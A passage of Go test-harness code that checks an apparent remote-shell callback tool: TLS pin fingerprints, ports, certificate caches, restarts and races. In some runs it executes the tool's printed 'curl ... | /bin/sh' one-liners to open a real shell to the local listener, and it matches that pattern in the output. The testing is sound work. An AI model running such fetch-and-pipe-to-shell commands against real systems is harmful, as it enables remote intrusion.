		loc, ok = s.Wait(`(?:curl [^\r\n]*\r?\n)+(?:> )?\r?\n`, loc[1], crs.Bound)
		if !ok {
			return 0, false
		}
		return loc[1], true
	}
	end, ok := waitBlock(0)
	if !ok {
		r.Inconclusive(fmt.Sprintf("binary %d run %d: start-up help did not appear completely: %q", i, k, term()))
		return
	}

	// The port really bound.
	_, linePort, _ := net.SplitHostPort(s.Addr)
	bound := linePort
	ports, err := listenPorts(s.P.Pid())
	switch {
	case err != nil || len(ports) == 0:
		r.Count("proc_lookup_failed", 1)
	default:
		r.Count("bound_port_from_proc", 1)
		same := true
		for _, p := range ports {
			if p != ports[0] {
				same = false
			}
		}
		if !same {
			r.Inconclusive(fmt.Sprintf("binary %d run %d: child listens on several ports %v", i, k, ports))
			return
		}
		bound = ports[0]
		if bound != linePort {
			r.Count("listening_line_differs_from_proc", 1)
			r.Inconclusive(fmt.Sprintf("binary %d run %d: 'Listening on %s' but the child's listening socket has port %s", i, k, s.Addr, bound))
		}
	}
	j.ctx["bound_port"] = bound

	// The key really served.
	hosts, covers, err := dialTargets(s.Addr, bound)
	if err != nil {
		r.Inconclusive(fmt.Sprintf("binary %d run %d: cannot use address %q: %v", i, k, s.Addr, err))
		return
	}
	mainHost := ""
	for _, h := range hosts {
		if _, err := j.handshake(net.JoinHostPort(h, bound), ""); err == nil && mainHost == "" {
			mainHost = h
		}
	}
	if mainHost == "" {
		r.Inconclusive(fmt.Sprintf("binary %d run %d: no handshake with the listener at %v port %s", i, k, hosts, bound))
		return
	}
	target := net.JoinHostPort(mainHost, bound)
	j.handshake(target, "cb.example")
	out.pin = j.served[0]
	// clients restricted in what they offer
	j.capRot, j.capK = capRotOf(eng, i, k), k
	j.clientCaps(target)

	// One (or two) shells, so that the help is printed again.
	if !light {
		for n := 0; n < c.Shells; n++ {
			id := fmt.Sprintf("c05x%x", rng.Uint32())
			from := s.P.CleanLen()
			in, err1 := crs.OpenIn(target, "/i/"+id)
			o, err2 := crs.OpenOut(target, "/o/"+id)
			if err1 != nil || err2 != nil {
				r.Inconclusive(fmt.Sprintf("binary %d run %d: fake shell could not connect: %v %v", i, k, err1, err2))
				return
			}
			_, ok := s.Wait(`Shell is ready`, from, crs.Bound)
			in.Close()
			o.Close()
			if !ok {
				r.Inconclusive(fmt.Sprintf("binary %d run %d: no 'Shell is ready'", i, k))
				return
			}
			loc, ok := s.Wait(`Shell is gone`, from, crs.Bound)
			if !ok {
				r.Inconclusive(fmt.Sprintf("binary %d run %d: no 'Shell is gone'", i, k))
				return
			}
			if end, ok = waitBlock(loc[1]); !ok {
				r.Inconclusive(fmt.Sprintf("binary %d run %d: help not re-printed after the shell died: %q", i, k, term()[from:]))
				return
			}
		}
	}

	// Everything shown so far.
	text := term()[:end]
	sh := parseOperatorText(text, 0)
	if light {
		r.Count("light_runs", 1)
	} else if sh.ShellBlocks != 1+c.Shells {
		r.Inconclusive(fmt.Sprintf("binary %d run %d: %d help blocks seen, %d expected", i, k, sh.ShellBlocks, 1+c.Shells))
	} else {
		r.Count("reprints_checked", int64(c.Shells))
	}
	if len(sh.OneLiners) == 0 {
		r.Inconclusive(fmt.Sprintf("binary %d run %d: no one-liner recognised in %q", i, k, text))
		return
	}
	for _, f := range sh.FPs {
		j.fp(f.Site, f.FP, strings.TrimSpace(f.Line))
	}
	out.advertised = sh.FPs[0].FP
	j.ports(sh.OneLiners, newPortRule(c.CBs, bound, s.Addr))
	r.Distinct(fmt.Sprintf("%s|%s|%v|%s|%v|%s|%s|%s", eng, form, c.CBs, c.FDir, c.IPv6, c.Tmpl, c.Cache, out.pin))

	var curls []map[string]any
	if !light {
		// Real curl on every distinct printed command.
		curls = j.curlChecks(r.Work, sh.OneLiners, mainHost, bound, covers, rng)
		// The callback script.
		j.scripts(target, target, c.Tmpl == "custom", rng, c.Scripts)
	}

	// A printed shell one-liner, verbatim, under /bin/sh: real curl fetches the script and the
	// script's two curl commands (with the embedded pin) carry a real shell.
	if !light && c.Real && j.bad > 0 {
		r.Count("real_shell_skipped_after_violation", 1)
	} else if !light && c.Real {
		var pick *oneLiner
		for n := range sh.OneLiners {
			ol := &sh.OneLiners[n]
			h, p, err := net.SplitHostPort(ol.Addr)
			if ol.Path != "/c" || err != nil || p != bound || !strings.HasSuffix(ol.Full, "| /bin/sh") {
				continue
			}
			if ip, err := netip.ParseAddr(strings.Trim(h, "[]")); err == nil && covers(ip) {
				if cn, err := net.DialTimeout("tcp", net.JoinHostPort(ip.String(), p), 2*time.Second); err == nil {
					cn.Close()
					pick = ol
					break
				}
			}
		}
		if pick == nil {
			r.Count("real_shell_no_direct_oneliner", 1)
		} else {
			from := s.P.CleanLen()
			done := make(chan mon.ProcResult, 1)
			go func() {
				done <- mon.Proc{Path: "/bin/sh", Args: []string{"-c", pick.Full}, Env: []string{"HOME=" + r.Work, "PATH=/usr/bin:/bin", "LC_ALL=C"}, Dir: r.Work, Setsid: true, Timeout: 2 * crs.Bound}.Run()
			}()
			_, ready := s.Wait(`Shell is ready`, from, crs.Bound)
			if ready {
				s.Line("exit")
			}
			var loc []int
			gone := false
			if ready {
				loc, gone = s.Wait(`Shell is gone`, from, crs.Bound)
			}
			var res mon.ProcResult
			select {
			case res = <-done:
			case <-time.After(2*crs.Bound + 10*time.Second):
				res.TimedOut = true
			}
			switch {
			case !ready || !gone || res.TimedOut:
				r.Inconclusive(fmt.Sprintf("binary %d run %d: %q under /bin/sh: ready=%v gone=%v timed out=%v status=%d stderr=%q", i, k, pick.Full, ready, gone, res.TimedOut, res.Status, res.Stderr))
			default:
				r.Count("real_shell_via_printed_oneliner", 1)
				r.Count(fmt.Sprintf("real_shell_exit:%d", res.Status), 1)
				if e2, ok := waitBlock(loc[1]); ok {
					// notices between the fake shells and this one, then the re-printed block
					for _, f := range parseOperatorText(term()[end:loc[1]], 0).FPs {
						j.fp(siteOther, f.FP, strings.TrimSpace(f.Line))
					}
					for _, f := range parseOperatorText(term()[loc[1]:e2], 1).FPs {
						j.fp(f.Site, f.FP, strings.TrimSpace(f.Line))
					}
					r.Count("reprints_checked", 1)
					end = e2
				} else {
					r.Inconclusive(fmt.Sprintf("binary %d run %d: help not re-printed after the real shell died", i, k))
				}
			}
		}
	}

	// Anything shown since (notices about the requests above) must not carry another fingerprint.
	rest := term()[end:]
	for _, f := range parseOperatorText(rest, 0).FPs {
		j.fp(siteOther, f.FP, strings.TrimSpace(f.Line))
	}

	// The cache changes under the running listener (last run on this cache only: the runs of a
	// restart sequence before it must find the cache as the program left it).
	if cf := binCacheFile(c, home, cachePath); last && !light && cf != "" {
		if _, err := os.Stat(cf); err != nil {
			r.Count("cache_file_not_where_expected", 1)
			r.Logf("%s %d run %d: no cache file at %s: %v", eng, i, k, cf, err)
		} else {
			all := parseOperatorText(term(), 0).FPs
			from := s.P.CleanLen()
			j.afterCacheChange(cf, hosts, bound, target, all, c.Tmpl == "custom", rng, c.Repl, func(j2 *judge) {
				// real curl, run as printed, on a one-liner that names a host (curl sends SNI for names only)
				for _, ol := range sh.OneLiners {
					h, p, printed := splitAddr(ol.Addr)
					if _, err := netip.ParseAddr(h); err == nil {
						continue
					}
					if !printed {
						p = "443"
					}
					var res curlResult
					for try := 0; try < 3; try++ {
						res = curlFor(r.Work, ol, "", fmt.Sprintf("%s:%s:%s:%s", bracket(h), p, bracket(mainHost), bound))
						if res.Exit == 0 || res.Exit == 90 {
							break
						}
						time.Sleep(300 * time.Millisecond)
					}
					switch {
					case res.Exit == 0:
						r.Count("curl_by_name_pinned_ok_after_change", 1)
					case tlsLevel(res.Exit):
						j2.r.Violate(eng, i, "advertised-fp-differs-from-served:"+classChanged, fmt.Sprintf("after the cache file changed, real curl run as printed (%s; it connects by name, so with SNI) exits %d: %s", ol.Text, res.Exit, res.Stderr), j2.witness(map[string]any{"oneliner": ol, "curl": res}))
					default:
						r.Inconclusive(fmt.Sprintf("curl on %q after the cache change could not reach the listener (exit %d, %s)", ol.Text, res.Exit, res.Stderr))
					}
					break
				}
				// notices about the requests of this phase
				for _, f := range parseOperatorText(term()[from:], 0).FPs {
					j2.fp(siteOther, f.FP, strings.TrimSpace(f.Line))
				}
			})
		}
	}

	st, sig, ok := s.Quit()
	if !ok || st != 0 || sig != "" {
		r.Inconclusive(fmt.Sprintf("binary %d run %d: Ctrl+D ended with status %d signal %q exited=%v", i, k, st, sig, ok))
	}
	var printed []string
	for _, ol := range sh.OneLiners {
		printed = append(printed, ol.Site+": "+ol.Text)
	}
	r.Sample("binary:"+c.Cache, map[string]any{"index": i, "run": k, "config": c, "args": args, "listening_on": s.Addr, "bound_port": bound, "served_pins": j.served, "printed": printed, "curl": curls})
	out.ok = true
	return
}

// ---- engine "inproc" ------------------------------------------------------------------------

type inCase struct {
	Form     string   `json:"listen_form"`
	CBs      []string `json:"callback_addresses"`
	FDir     string   `json:"serve_files_from"`
	IPv6     bool     `json:"ipv6_one_liners"`
	Tmpl     string   `json:"template"`
	Cache    string   `json:"cache"` // off | file | expired-file | notyet-file | shared-empty | chain-file
	Starts   int      `json:"starts"`
	Shell    bool     `json:"shell_cycle"`
	ChangeAt int      `json:"cache_replaced_during_start"` // -1: never
	Rot      int      `json:"port_443_rotation,omitempty"`
	// cache form chain-file: the cache is made by the harness before the first start
	Chain *chainSpec `json:"cache_made_by_harness,omitempty"`
	Repl  *chainSpec `json:"cache_replaced_during_start_by,omitempty"`
}

// genInChainCase: 2-4 starts on a harness-made chain cache; during one of them
// the cache is replaced by another chain, which the later starts then load.
func genInChainCase(r *mon.Run, i int) inCase {
	rng := r.Rng("inchaincfg", i)
	c := inCase{
		Form:  inprocForms[i%len(inprocForms)],
		CBs:   cbAddrs(cbForms[rng.IntN(len(cbForms))], rng),
		FDir:  fdirForms[rng.IntN(len(fdirForms))],
		IPv6:  rng.IntN(2) == 0,
		Tmpl:  []string{"default", "default", "custom"}[rng.IntN(3)],
		Cache: cacheChainFile,
		Shell: rng.IntN(3) == 0,
	}
	c.Starts = 2 + rng.IntN(3)
	c.ChangeAt = rng.IntN(c.Starts)
	ch, rp := genChainSpec(i, rng), genChainSpec(i+3, rng)
	c.Chain, c.Repl = &ch, &rp
	return c
}

func genInCase(r *mon.Run, i int) inCase {
	rng := r.Rng("incfg", i)
	c := inCase{
		Form:     inprocForms[i%len(inprocForms)],
		CBs:      cbAddrs(cbForms[rng.IntN(len(cbForms))], rng),
		FDir:     fdirForms[rng.IntN(len(fdirForms))],
		IPv6:     rng.IntN(2) == 0,
		Tmpl:     []string{"default", "default", "custom"}[rng.IntN(3)],
		Cache:    []string{"off", "off", "file", "expired-file", "file", "notyet-file"}[(i/len(inprocForms))%6],
		Starts:   1,
		Shell:    rng.IntN(3) == 0,
		ChangeAt: -1,
	}
	if c.Cache != "off" {
		c.Starts = 2 + rng.IntN(2)
		c.ChangeAt = rng.IntN(c.Starts)
	}
	return c
}

// gen443Case: the listener on the default https port x callback addresses with
// explicit ports and without (cb443Pool, in turn) x files x cache.
func gen443Case(r *mon.Run, i int) inCase {
	rng := r.Rng("in443cfg", i)
	c := inCase{
		Form:     form443,
		CBs:      cb443Pool[i%len(cb443Pool)],
		FDir:     []string{"dir", "file", "off"}[i%3],
		IPv6:     rng.IntN(2) == 0,
		Tmpl:     []string{"default", "default", "custom"}[rng.IntN(3)],
		Cache:    []string{"off", "file"}[(i/2)%2],
		Starts:   1,
		Shell:    rng.IntN(3) == 0,
		ChangeAt: -1,
		Rot:      i % len(cands443),
	}
	if c.Cache != "off" {
		c.Starts = 2
		c.ChangeAt = rng.IntN(c.Starts)
	}
	return c
}

// inStart starts the in-process server of one start of a case.  For the
// port-443 form the caller holds mu443.
func inStart(r *mon.Run, eng string, i int, c inCase, cache string, fx fixtures, rng *rand.Rand) (*hk.Server, bool) {
	s, ok, _ := inStartE(r, eng, i, c, cache, fx, rng)
	return s, ok
}

// inStartE is inStart that also hands out the program's refusal, if any.
func inStartE(r *mon.Run, eng string, i int, c inCase, cache string, fx fixtures, rng *rand.Rand) (*hk.Server, bool, error) {
	cfg := hk.Config{FDir: fx.fdir(c.FDir), CertFile: cache, CBAddrs: c.CBs, PrintIPv6: c.IPv6}
	if c.Tmpl == "custom" {
		cfg.TmplF = fx.custom
	}
	if c.Form != form443 {
		cfg.Addr = listenArg(c.Form, rng)
		s, err := hk.Start(cfg)
		if err != nil {
			r.Count("config_rejected_by_program:"+c.Form, 1)
			r.Logf("%s %d: %+v refused: %v", eng, i, cfg, err)
			return nil, false, err
		}
		return s, true, nil
	}
	var last error
	for try := 0; try < rounds443()*len(cands443); try++ {
		cfg.Addr = cand443(c.Rot, try)
		s, err := hk.Start(cfg)
		if err == nil {
			got443(r, cfg.Addr)
			return s, true, nil
		}
		last = err
		switch {
		case denied443(err):
			unavailable443(r, fmt.Sprintf("%s %d", eng, i), err)
			return nil, false, nil
		case busy443(err):
			r.Count("port_443_address_busy_or_missing", 1)
			if (try+1)%len(cands443) == 0 {
				time.Sleep(250 * time.Millisecond)
			}
		default:
			r.Count("config_rejected_by_program:"+c.Form, 1)
			r.Logf("%s %d: %+v refused: %v", eng, i, cfg, err)
			return nil, false, err
		}
	}
	unavailable443(r, fmt.Sprintf("%s %d", eng, i), last)
	return nil, false, nil
}

func inCaseRun(r *mon.Run, eng string, fx fixtures, i int, c inCase) {
	rng := r.Rng(eng+"run", i)
	if eng == engIn {
		rng = r.Rng("inrun", i)
	}
	cache := ""
	if c.Cache != "off" {
		cache = filepath.Join(r.Work, fmt.Sprintf("%s-%d", eng, i), "cert.txtar")
	}
	cachedPin := ""
	if c.Cache == "expired-file" || c.Cache == "notyet-file" {
		// a cache written long ago (certificate past its NotAfter) or by a machine whose clock
		// ran ahead (not yet valid): still the identity every start must serve and advertise
		var err error
		if cachedPin, err = writeDatedCache(cache, c.Cache == "expired-file"); err != nil {
			r.Inconclusive("cannot prepare a dated cache: " + err.Error())
			return
		}
		r.Count("dated_cache_files:"+c.Cache, 1)
	}
	var cc *chainCache // the harness-made chain cache the next start finds
	if c.Chain != nil {
		var err error
		if cc, err = writeChainCache(r, cache, *c.Chain); err != nil {
			r.Inconclusive(fmt.Sprintf("%s %d: cannot prepare the chain cache %v: %v", eng, i, *c.Chain, err))
			return
		}
	}
	// expect: the key the cache holds as far as the harness knows (written by the harness, or
	// served by the first start); every start must serve and advertise it
	expect, expectWhy := cachedPin, "the harness wrote the cache (certificate "+c.Cache+")"
	oneStart := func(k int) bool {
		if c.Form == form443 {
			mu443.Lock()
			defer mu443.Unlock()
		}
		s, ok, serr := inStartE(r, eng, i, c, cache, fx, rng)
		if !ok {
			if cc != nil && serr != nil && strings.Contains(serr.Error(), "certificate") {
				// the program does not take this cache: it need not (counted); only starts that come up are judged
				r.Count("chain_cache_rejected_at_start_up", 1)
				r.Count("chain_cache_rejected_at_start_up:"+cc.Spec.String(), 1)
			}
			return false
		}
		defer s.Stop()
		pin, adv, replaced, newChain, ok := inOne(r, eng, s, i, k, c, cc, cache, rng)
		if !ok {
			return false
		}
		r.Eval(1) // every start is one evaluated case
		if cc != nil {
			chainStarted(r, eng, cc, pin, k > 0)
		}
		if replaced != "" {
			cc = newChain
		}
		if k > 0 {
			r.Count("restarts_compared", 1)
		}
		if expect != "" && (pin != expect || adv != expect) {
			key := "restart-pin-changed-with-cache"
			switch {
			case strings.HasPrefix(expectWhy, "the harness wrote"):
				key = "advertised-fp-differs-from-served:dated-cache"
			case strings.HasPrefix(expectWhy, "the cache was replaced"):
				key = "restart-does-not-serve-replaced-cache"
			}
			r.Violate(eng, i, key, fmt.Sprintf("start %d serves pin %s and advertises %s, but the certificate cache holds the key with pin %s (%s)", k, pin, adv, expect, expectWhy), map[string]any{"config": c, "start": k})
		}
		if cache != "" {
			expect, expectWhy = pin, fmt.Sprintf("start %d served that key on this cache", k)
		}
		if replaced != "" {
			expect, expectWhy = replaced, fmt.Sprintf("the cache was replaced by the harness while start %d was running", k)
			r.Count("restarts_after_cache_replacement", int64(b2i(k+1 < c.Starts)))
			if newChain != nil {
				// which key the program takes from a file it did not write is not judged here:
				// the later starts are held against what the first of them serves
				expect, expectWhy = "", ""
			}
		}
		return true
	}
	for k := 0; k < c.Starts; k++ {
		if !oneStart(k) {
			return
		}
	}
	if c.Starts >= 2 {
		r.Count("restart_sequences", 1)
	}
}

func b2i(b bool) int {
	if b {
		return 1
	}
	return 0
}

func opText(s *hk.Server, from int) string {
	var sb strings.Builder
	for _, e := range s.OpLines(from, -1) {
		sb.WriteString(e.S)
		sb.WriteByte('\n')
	}
	return sb.String()
}

// inOne judges one running in-process server.  replaced: the pin of the key
// the cache was replaced with during this start ("" = not replaced).
func inOne(r *mon.Run, eng string, s *hk.Server, i, k int, c inCase, cc *chainCache, cache string, rng *rand.Rand) (pin, adv, replaced string, newChain *chainCache, ok bool) {
	r.Count("inproc_servers", 1)
	r.Count("config_listen_form:"+c.Form, 1)
	j := &judge{r: r, eng: eng, idx: i, chain: cc, ctx: map[string]any{"config": c, "start": k, "listening_on": s.Addr}}
	if c.Cache == "shared-empty" {
		// two listeners started together on one empty cache: whatever one of them advertises
		// that it does not serve is there because the other one changed the cache under it
		j.class = classChanged
	}
	isHelp := func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "/c | /bin/sh") }
	isHead := func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "To get a shell:") }
	hd, ok1 := s.Log.Wait(0, hk.Bound, isHead)
	_, ok2 := s.Log.Wait(hd.Seq, hk.Bound, isHelp)
	if !ok1 || !ok2 {
		r.Inconclusive(fmt.Sprintf("%s %d: start-up help did not appear", eng, i))
		return
	}
	_, bound, _ := net.SplitHostPort(s.Addr)
	hosts, _, err := dialTargets(s.Addr, bound)
	if err != nil {
		r.Inconclusive(fmt.Sprintf("%s %d: cannot use address %q: %v", eng, i, s.Addr, err))
		return
	}
	mainHost := ""
	for _, h := range hosts {
		if _, err := j.handshake(net.JoinHostPort(h, bound), ""); err == nil && mainHost == "" {
			mainHost = h
		}
	}
	if mainHost == "" {
		r.Inconclusive(fmt.Sprintf("%s %d: no handshake with the listener at %s", eng, i, s.Addr))
		return
	}
	target := net.JoinHostPort(mainHost, bound)
	// a client that connects by name (SNI) must be shown the same key
	if _, err := j.handshake(target, "some.host.example"); err == nil {
		r.Count("handshakes_with_sni_at_start", 1)
	} else {
		r.Inconclusive(fmt.Sprintf("%s %d: handshake with SNI failed: %v", eng, i, err))
	}
	// clients restricted in what they offer
	j.capK = k
	j.clientCaps(target)
	shells := 0
	if c.Shell {
		id := fmt.Sprintf("c05y%x", rng.Uint32())
		from := len(s.Log.Snapshot())
		in, err1 := crs.OpenIn(target, "/i/"+id)
		o, err2 := crs.OpenOut(target, "/o/"+id)
		if err1 != nil || err2 != nil {
			r.Inconclusive(fmt.Sprintf("%s %d: fake shell could not connect: %v %v", eng, i, err1, err2))
			return
		}
		_, okr := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "Shell is ready") })
		in.Close()
		o.Close()
		g, okg := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "Shell is gone") })
		if !okr || !okg {
			r.Inconclusive(fmt.Sprintf("%s %d: shell cycle did not complete", eng, i))
			return
		}
		hd, ok1 := s.Log.Wait(g.Seq, hk.Bound, isHead)
		_, ok2 := s.Log.Wait(hd.Seq, hk.Bound, isHelp)
		if !ok1 || !ok2 {
			r.Inconclusive(fmt.Sprintf("%s %d: help not re-printed after the shell died", eng, i))
			return
		}
		shells = 1
	}
	sh := parseOperatorText(opText(s, 0), 0)
	if sh.ShellBlocks != 1+shells {
		r.Inconclusive(fmt.Sprintf("%s %d: %d help blocks seen, %d expected", eng, i, sh.ShellBlocks, 1+shells))
	} else {
		r.Count("reprints_checked", int64(shells))
	}
	if len(sh.OneLiners) == 0 {
		r.Inconclusive(fmt.Sprintf("%s %d: no one-liner recognised", eng, i))
		return
	}
	for _, f := range sh.FPs {
		j.fp(f.Site, f.FP, strings.TrimSpace(f.Line))
	}
	j.ports(sh.OneLiners, newPortRule(c.CBs, bound, s.Addr))
	mark := len(s.Log.Snapshot())
	j.scripts(target, target, c.Tmpl == "custom", rng, 2)
	j.handshake(target, "after.example")
	all := sh.FPs
	if _, okm := s.Mark(fmt.Sprintf("C05-MARK-%d-%d", i, k)); okm {
		for _, f := range parseOperatorText(opText(s, mark), 0).FPs {
			j.fp(siteOther, f.FP, strings.TrimSpace(f.Line))
			all = append(all, f)
		}
	}
	pin, adv = j.served[0], sh.FPs[0].FP
	r.Distinct(fmt.Sprintf("%s|%s|%v|%s|%v|%s|%s|%s", eng, c.Form, c.CBs, c.FDir, c.IPv6, c.Tmpl, c.Cache, pin))
	if k == c.ChangeAt && cache != "" {
		// the cache changes under the running listener
		mark2 := len(s.Log.Snapshot())
		var okc bool
		replaced, newChain, okc = j.afterCacheChange(cache, hosts, bound, target, all, c.Tmpl == "custom", rng, c.Repl, func(j2 *judge) {
			if _, okm := s.Mark(fmt.Sprintf("C05-MARK2-%d-%d", i, k)); okm {
				for _, f := range parseOperatorText(opText(s, mark2), 0).FPs {
					j2.fp(siteOther, f.FP, strings.TrimSpace(f.Line))
				}
			}
		})
		if okc {
			r.Eval(1) // the changed cache under the same listener is judged as a case of its own
			r.Distinct(fmt.Sprintf("%s|%s|%v|%s|%v|%s|%s|%s|changed-to|%s", eng, c.Form, c.CBs, c.FDir, c.IPv6, c.Tmpl, c.Cache, pin, replaced))
		}
	}
	if k == 0 {
		var printed []string
		for _, ol := range sh.OneLiners {
			printed = append(printed, ol.Site+": "+ol.Text)
		}
		kind := eng + ":" + c.Cache
		r.Sample(kind, map[string]any{"index": i, "config": c, "listening_on": s.Addr, "served_pins": j.served, "printed": printed})
	}
	return pin, adv, replaced, newChain, true
}

// ---- engine "inproc-race": two listeners started together on one empty cache ---------------

const raceAttempts = 5

// raceCaseRun starts two servers at the same moment on one cache path that
// does not exist yet: both find no file, both make a key, one file wins.  Each
// server's advertised fingerprint must be the pin of the key IT presents,
// without and with SNI.  Up to raceAttempts attempts (fresh path each) until
// the two servers really made different keys.
func raceCaseRun(r *mon.Run, fx fixtures, i int) {
	rng := r.Rng("inracerun", i)
	cfgRng := r.Rng("inracecfg", i)
	mk := func(form string) inCase {
		return inCase{Form: form, CBs: cbAddrs(cbForms[cfgRng.IntN(len(cbForms))], cfgRng), FDir: fdirForms[cfgRng.IntN(len(fdirForms))], IPv6: cfgRng.IntN(2) == 0,
			Tmpl: []string{"default", "default", "custom"}[cfgRng.IntN(3)], Cache: "shared-empty", Starts: 1, ChangeAt: -1}
	}
	cs := [2]inCase{mk([]string{"v4-port0", "v6-port0"}[i%2]), mk([]string{"v4-port0", "v6-port0", "any4-port0"}[i%3])}
	for a := 0; a < raceAttempts; a++ {
		cache := filepath.Join(r.Work, fmt.Sprintf("race%d", i), fmt.Sprintf("a%d", a), "cert.txtar")
		var srv [2]*hk.Server
		var oks [2]bool
		gate := make(chan struct{})
		var wg sync.WaitGroup
		for n := 0; n < 2; n++ {
			wg.Add(1)
			go func(n int) {
				defer wg.Done()
				<-gate
				// both address forms are port 0: nothing is drawn from a shared PRNG here
				srv[n], oks[n] = inStart(r, engRace, i, cs[n], cache, fx, nil)
			}(n)
		}
		close(gate)
		wg.Wait()
		if !oks[0] || !oks[1] {
			for n := 0; n < 2; n++ {
				if oks[n] {
					srv[n].Stop()
				}
			}
			r.Inconclusive(fmt.Sprintf("%s %d: the two servers did not both start", engRace, i))
			return
		}
		r.Count("race_pairs_started", 1)
		var pins, advs [2]string
		good := true
		for n := 0; n < 2; n++ {
			var okn bool
			pins[n], advs[n], _, _, okn = inOne(r, engRace, srv[n], i, n, cs[n], nil, cache, rng)
			good = good && okn
		}
		filePin := ""
		if good {
			r.Eval(2)
			// which key the file ended up with (read by the harness; tells the two outcomes apart)
			if crt, err := sstls.LoadCachedCertificate(cache); err == nil && crt.Leaf != nil {
				filePin = hk.Pin(crt.Leaf)
			}
		}
		for n := 0; n < 2; n++ {
			srv[n].Stop()
		}
		if !good {
			return
		}
		differ := advs[0] != advs[1] || pins[0] != pins[1]
		if differ {
			r.Count("race_pairs_with_different_keys", 1)
			switch filePin {
			case pins[0], pins[1]:
				r.Count("race_cache_file_holds_one_of_the_two_keys", 1)
			default:
				r.Count("race_cache_file_unreadable_or_other", 1)
			}
		} else {
			r.Count("race_pairs_with_one_key", 1)
		}
		r.Sample("inproc-race", map[string]any{"index": i, "attempt": a, "configs": cs, "served": pins, "advertised": advs, "cache_file_holds": filePin})
		if differ {
			return
		}
	}
}

// ---- Run ----------------------------------------------------------------------------------------

func Run(r *mon.Run) {
	r.Rule = "engine binary: the real -race binary on a pty, configurations drawn from listen form {127.0.0.1:0, 127.0.0.1, [::1]:0, ::1, 0.0.0.0:0, :0, [::]:0, fixed free port v4/v6} (stratified over the index) x -callback-address {none, host, host:port, several} x -serve-files-from {off, dir, file} x -ipv6-one-liners x template {default, custom with two uses of .PubkeyFP} x certificate cache {off, fresh file, file of an earlier run, 2-4 restarts on one file, default path under a private HOME}; for every run the bound port is read from the child's listening socket (/proc/<pid>/fd inode in /proc/<pid>/net/tcp{,6}), the served leaf is taken from TLS handshakes (with and without SNI, on every printed address that is an address of the listener) and hk.Pin computed by the harness; every sha256//... text on the terminal (file one-liners, shell one-liners, the help re-printed after a fake shell died) and in 2-3 /c bodies (Host, c2 query, c2 header, HTTP/1.0+SNI variants) must equal it and be std-base64 of 32 bytes; every printed one-liner must name the bound port (a one-liner without a port names 443) or a port the user gave for that host, and a host the user gave only WITH a port (not an address of this machine) must keep exactly that port; real /usr/bin/curl is run with each printed command verbatim (must exit 0; 200 for /c) and with one bit of the pin flipped (must exit 90), directly when the printed address belongs to the listener, else with --connect-to; restarts on one cache must serve and advertise one pin; in about half of the runs one printed shell one-liner that names an address of the listener is run verbatim under /bin/sh (real curl fetches /c, the script's two curl commands carry a real shell, 'exit' ends it) and the help printed afterwards is judged too. engine inproc: hsrv.New in-process, same text/handshake/script/port/restart oracles without curl. THE CACHE CHANGES UNDER A RUNNING LISTENER (every inproc case with a cache file, in one start of its restart sequence drawn per case; every binary case with a cache file, in its last run): after the start-up checks the cache file is replaced through sstls.SaveCertificate by a harness-made currently-valid certificate with another key, then fresh handshakes without SNI (every address) and with SNI (two names), /c fetched plainly and as HTTP/1.0 on an SNI connection (binary: also real curl run as printed on a one-liner that names a host, i.e. with SNI): every fingerprint the process has shown so far and embeds now must equal the pin of every key presented now (key class cache-changed-under-listener); the starts after the replacement must serve and advertise the replaced cache's key. engine inproc-race: two servers started at the same moment (one gate) on one cache path that does not exist yet, up to 5 attempts until they really made different keys; each one's fingerprints must be the pin of what IT presents without and with SNI. PORT 443 (engines inproc-443 and binary-443; the harness is root): the listener is bound to 127.0.0.1:443 | 127.0.0.2:443 | 127.0.0.3:443 | [::1]:443 (first one free, rotation by index; one such listener at a time per run, other processes' use = next candidate / bounded wait, none available = counted + inconclusive note) x callback addresses with explicit ports 8888/8443/444/443 and without, bare IPv6 literals and internationalised names typed in UTF-8 with a non-ASCII last label (fixed list, in turn; one-liners for non-ASCII names are judged as text, not run with curl) x files x cache (with the cache change); same oracles. CACHES THE PROGRAM DID NOT WRITE ITSELF (engines inproc-chain: 2-4 starts per case, and binary-chain: 2-3 runs of the real binary per case with the real-curl checks, explicit cache path and default path under a private HOME): before the first start the harness writes the cache archive itself: cert section = a CA hierarchy made with crypto/x509, LEAF FIRST then its issuers (1, 2 or 3 certificates, stratified over the index), key section = the leaf's key; key types of leaf (stratified) and issuers (drawn) from ECDSA P-256 / RSA 2048 / Ed25519 / ECDSA P-384; between the PEM blocks nothing | blank lines | the text openssl s_client -showcerts prints | openssl pkcs12 bag attributes | CRLF line ends; private key as PKCS#8 or as EC/RSA PRIVATE KEY; archive laid out cert-key | key-cert | with a comment and other sections around; during one start (inproc) / under the last run (binary) the cache is replaced by another such chain, which the later starts load. A start-up error on such a file is counted and not judged (the program need not take it), which key of the file the program uses is counted and not judged (C08); every start that comes up is judged with the same oracles as everywhere: every advertised fingerprint equals the pin of the first certificate the listener presents in handshakes, real curl run as printed connects and with one bit of the pin flipped exits 90, restarts on the unchanged cache serve and advertise one pin. CLIENT TLS CAPABILITIES (every start of every engine, right after the first handshakes; caps.go): the handshake is repeated by crypto/tls clients restricted in what they offer: CurvePreferences {P-256} | {P-384} | {P-521} | {X25519} | {P-256,P-384,P-521}, MaxVersion TLS 1.2, MinVersion TLS 1.3, version x curve combinations, one single TLS 1.2 cipher suite (ECDHE-ECDSA-... for ECDSA/Ed25519 keys, ECDHE-RSA-... for RSA keys; AES128-GCM-SHA256 | AES256-GCM-SHA384 | CHACHA20-POLY1305) alone and with one curve; 19 profiles, every listener gets the 13 cheap ones and one of the 6 whose only group is P-384 or P-521 (in turn over index+start), with and without SNI in turn; the leaf presented to such a client joins the served pins every advertised fingerprint is compared with; a handshake that fails is a violation (key restricted-client-cannot-connect:<profile>) when three attempts in a row were refused by the TLS peer (no connect failure, no deadline), a client with Go's defaults connects to the same address at that moment, and the same restricted client was taken by a plain listener of the harness (tls.Listen with nothing but a self-signed certificate of the same key type as the served leaf; started and probed once per key type met). Real curl (engines binary, binary-443, binary-chain): every printed one-liner that connected as printed and was refused with the altered pin is run again with two of 17 restrictions (in turn over case, run and position): --curves prime256v1 | secp384r1 | secp521r1 | X25519 | prime256v1:secp384r1:secp521r1, --tls-max 1.2, --tlsv1.3, --tls-max 1.2 --ciphers <one of the three suites>, --tlsv1.3 --tls13-ciphers <one of the three TLS 1.3 suites>, version x curve and suite x curve combinations; with the advertised pin it must exit 0 (a TLS-level exit code is violation 